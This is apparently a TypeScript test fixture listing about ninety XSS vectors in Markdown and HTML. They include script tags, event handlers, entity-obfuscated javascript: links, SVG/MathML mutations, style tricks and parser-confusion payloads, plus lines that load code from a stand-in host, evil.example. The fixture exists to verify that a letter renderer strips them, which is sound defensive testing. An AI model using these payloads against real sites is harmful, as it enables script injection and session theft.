// Known XSS vectors, written as an organizer could type them into a letter's Markdown. Each one,
// if it ever ran, would set `window.__xss` and open an alert: the unit test checks what the
// renderer keeps, the browser test checks that nothing runs (tests/e2e/xss.spec.ts).

/** What every vector tries to run. */
export const RUN = 'window.__xss=1;alert(1)'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const decimalEntities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('')
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')
const unterminatedEntities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)}`).join('')
const SCRIPT_PAGE = `<script>${RUN}</script>`

export const XSS_VECTORS: Array<[name: string, markdown: string]> = [
  // Script elements
  ['script tag', `<script>${RUN}</script>`],
  ['script tag, mixed case, external source', `<ScRiPt SrC="//evil.example/x.js"></sCrIpT>`],
  ['script tag with a slash attribute', `<script/xss>${RUN}</script>`],
  ['nested script tags', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script after a stray angle bracket', `<<script>${RUN}//<</script>`],

  // Event handlers
  ['img onerror', `<img src=x onerror=${RUN}>`],
  ['img onerror, mixed case', `<IMG SRC=x OnErRoR="${RUN}">`],
  ['img onerror after a backtick', `<img src="x\` \`<script>${RUN}</script>"\` \`>`],
  ['quote breaking out of an attribute', `<img """><script>${RUN}</script>">`],
  ['body onload', `<body onload="${RUN}">`],
  ['input autofocus onfocus', `<input autofocus onfocus="${RUN}">`],
  ['details ontoggle', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ['video source onerror', `<video><source onerror="${RUN}"></video>`],
  ['audio onerror', `<audio src=x onerror="${RUN}">`],
  ['marquee onstart', `<marquee onstart="${RUN}">x</marquee>`],
  ['paragraph onmouseover', `<p onmouseover="${RUN}">hover me</p>`],
  ['link onclick on a good address', `<a href="https://example.org" onclick="${RUN}">click</a>`],
  ['slash instead of a space before the handler', `<div/onmouseover='${RUN}'>x</div>`],

  // Link schemes, in HTML
  ['javascript: href', `<a href="javascript:${RUN}">a</a>`],
  ['JAVASCRIPT: href, upper case', `<a href="JAVASCRIPT:${RUN}">a</a>`],
  ['javascript: href after spaces', `<a href="   javascript:${RUN}">a</a>`],
  ['javascript: href after a control character', `<a href="&#x01;javascript:${RUN}">a</a>`],
  ['javascript: href, decimal entities', `<a href="${decimalEntities('javascript:')}${RUN}">a</a>`],
  ['javascript: href, hex entities', `<a href="${hexEntities('javascript:')}${RUN}">a</a>`],
  [
    'javascript: href, entities without semicolons',
    `<a href="${unterminatedEntities('javascript:')}${RUN}">a</a>`,
  ],
  ['javascript: href, zero-padded entity', `<a href="&#0000106avascript:${RUN}">a</a>`],
  ['javascript: href with an encoded tab', `<a href="jav&#x09;ascript:${RUN}">a</a>`],
  ['javascript: href with an encoded newline', `<a href="jav&#x0A;ascript:${RUN}">a</a>`],
  ['javascript: href with a raw tab', `<a href="jav\tascript:${RUN}">a</a>`],
  ['javascript: href with a named colon', `<a href="javascript&colon;${RUN}">a</a>`],
  ['javascript: href with a named newline', `<a href="java&NewLine;script:${RUN}">a</a>`],
  ['data: href with a script page', `<a href="data:text/html,${SCRIPT_PAGE}">a</a>`],
  ['data: href, base64', `<a href="data:text/html;base64,${base64(SCRIPT_PAGE)}">a</a>`],
  ['vbscript: href', `<a href="vbscript:msgbox(1)">a</a>`],
  ['VBScript: href, mixed case', `<a href="VbScRiPt:msgbox(1)">a</a>`],

  // Link schemes, in Markdown
  ['markdown link to javascript:', `[a](javascript:${RUN})`],
  ['markdown link to JaVaScRiPt:', `[a](JaVaScRiPt:${RUN})`],
  ['markdown link in angle brackets', `[a](<javascript:${RUN}>)`],
  ['markdown link with entity-encoded scheme', `[a](&#x6A;avascript:${RUN})`],
  ['markdown link with an entity colon', `[a](javascript&#58;${RUN})`],
  ['markdown link with a title', `[a](javascript:${RUN} "title")`],
  ['markdown link breaking out of its title', `[a](https://example.org "x\\" onmouseover=\\"${RUN}")`],
  ['markdown link breaking out of its address', `[a](https://example.org"onmouseover="${RUN})`],
  ['markdown reference link', `[a][evil]\n\n[evil]: javascript:${RUN}`],
  ['markdown autolink', `<javascript:${RUN}>`],
  ['markdown link to data:', `[a](data:text/html;base64,${base64(SCRIPT_PAGE)})`],
  ['markdown link to vbscript:', `[a](vbscript:msgbox(1))`],
  ['markdown image to javascript:', `![a](javascript:${RUN})`],
  ['markdown image breaking out of its address', `![a](x"onerror="${RUN})`],
  [
    'markdown image to an svg data: URL',
    `![a](data:image/svg+xml;base64,${base64(`<svg onload="${RUN}"/>`)})`,
  ],

  // SVG and MathML
  ['svg onload', `<svg onload="${RUN}"></svg>`],
  ['svg with a script', `<svg><script>${RUN}</script></svg>`],
  ['svg link to javascript:', `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`],
  ['svg animate onbegin', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`],
  ['svg set href to javascript:', `<svg><a><set attributeName="href" to="javascript:${RUN}"/></a></svg>`],
  ['img with an svg data: source', `<img src="data:image/svg+xml,<svg onload='${RUN}'/>">`],
  ['mathml mutation', `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`],

  // Styles
  ['style element with a javascript: url', `<style>*{background:url("javascript:${RUN}")}</style>`],
  ['style element importing a sheet', `<style>@import 'https://evil.example/x.css';</style>`],
  ['style attribute with a javascript: url', `<p style="background-image:url(javascript:${RUN})">x</p>`],
  ['style attribute with expression()', `<p style="width:expression(${RUN})">x</p>`],
  ['style attribute with behavior', `<p style="behavior:url(https://evil.example/x.htc)">x</p>`],
  ['stylesheet link to javascript:', `<link rel="stylesheet" href="javascript:${RUN}">`],

  // Frames and plug-ins
  ['iframe to javascript:', `<iframe src="javascript:${RUN}"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['iframe to another site', `<iframe src="https://evil.example"></iframe>`],
  ['object with javascript: data', `<object data="javascript:${RUN}"></object>`],
  ['object with a data: page', `<object data="data:text/html;base64,${base64(SCRIPT_PAGE)}"></object>`],
  ['embed to javascript:', `<embed src="javascript:${RUN}">`],
  ['frameset onload', `<frameset onload="${RUN}"><frame src="x"></frameset>`],

  // Forms
  ['form action javascript:', `<form action="javascript:${RUN}"><button>go</button></form>`],
  ['button formaction javascript:', `<form><button formaction="javascript:${RUN}">go</button></form>`],
  [
    'button outside its form',
    `<form id="f"></form><button form="f" formaction="javascript:${RUN}">go</button>`,
  ],
  ['image input onerror', `<input type="image" src="x" onerror="${RUN}">`],
  ['isindex', `<isindex type="image" src="x" onerror="${RUN}">`],

  // The document head
  ['meta refresh to javascript:', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  [
    'meta refresh to a data: page',
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(SCRIPT_PAGE)}">`,
  ],
  ['base href to javascript:', `<base href="javascript:${RUN}//">`],

  // Comments and parser tricks
  ['comment closed inside an attribute', `<!--<img src="--><img src=x onerror="${RUN}"//">`],
  ['comment closed with --!>', `<!-- --!><img src=x onerror="${RUN}">-->`],
  ['empty comment <!-->', `<!--><img src=x onerror="${RUN}">-->`],
  ['script after a comment', `<!----><script>${RUN}</script>`],
  ['CDATA section', `<![CDATA[<script>${RUN}</script>]]>`],
  ['processing instruction', `<?xml-stylesheet href="javascript:${RUN}"?>`],
  ['noscript mutation', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['title element', `<title><img src=x onerror="${RUN}"></title>`],
  ['xmp element', `<xmp><img src=x onerror="${RUN}"></xmp>`],
  ['template element', `<template><img src=x onerror="${RUN}"></template>`],
  ['textarea element', `<textarea><img src=x onerror="${RUN}"></textarea>`],
  ['html in inline code', `\`<script>${RUN}</script>\``],
  ['html in a code block', `\`\`\`html\n<img src=x onerror="${RUN}">\n\`\`\``],
]

/** The whole corpus as one letter, each vector its own paragraph. */
export const XSS_LETTER_BODY = [
  'This letter is a test of the renderer. Nothing below may run.',
  ...XSS_VECTORS.map(([, markdown]) => markdown),
].join('\n\n')
